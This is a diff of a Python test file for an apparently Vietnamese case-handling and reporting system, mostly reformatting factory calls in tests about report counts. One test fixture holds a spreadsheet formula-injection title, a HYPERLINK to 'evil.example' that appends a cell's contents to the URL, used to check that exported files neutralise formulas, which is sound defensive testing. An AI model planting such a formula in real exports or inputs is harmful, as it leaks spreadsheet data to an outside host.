@@ -194,7 +194,9 @@ def test_a_citizens_title_is_never_a_formula_in_the_files(province):
     _so, hospital, _centre = province
     title = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm xem chi tiết")'
     case = CaseFactory(
-        assigned_unit=hospital, title=title, received_at=at(datetime.date(2026, 11, 10)),
+        assigned_unit=hospital,
+        title=title,
+        received_at=at(datetime.date(2026, 11, 10)),
         accept_by=datetime.date(2026, 11, 20),
     )
     report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
@@ -212,12 +214,21 @@ def test_a_case_resolved_without_a_deadline_is_neither_on_time_nor_late(province
     # A press report concluded before its resolution deadline was set: the report counted
     # it late (resolved minus on time) while the case list had nothing overdue.
     _so, hospital, _centre = province
-    CaseFactory(assigned_unit=hospital, kind=CaseKind.BAO_CHI, received_at=at(NOVEMBER[0]),
-                status=CaseStatus.CONCLUDED, resolve_by=None,
-                concluded_at=at(datetime.date(2026, 11, 5)))
-    CaseFactory(assigned_unit=hospital, received_at=at(NOVEMBER[0]),
-                status=CaseStatus.CONCLUDED, resolve_by=datetime.date(2026, 11, 25),
-                concluded_at=at(datetime.date(2026, 11, 6)))
+    CaseFactory(
+        assigned_unit=hospital,
+        kind=CaseKind.BAO_CHI,
+        received_at=at(NOVEMBER[0]),
+        status=CaseStatus.CONCLUDED,
+        resolve_by=None,
+        concluded_at=at(datetime.date(2026, 11, 5)),
+    )
+    CaseFactory(
+        assigned_unit=hospital,
+        received_at=at(NOVEMBER[0]),
+        status=CaseStatus.CONCLUDED,
+        resolve_by=datetime.date(2026, 11, 25),
+        concluded_at=at(datetime.date(2026, 11, 6)),
+    )
     report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
     assert (report.resolved, report.resolved_on_time, report.resolved_late) == (2, 1, 0)
     assert report.resolved_without_deadline == 1
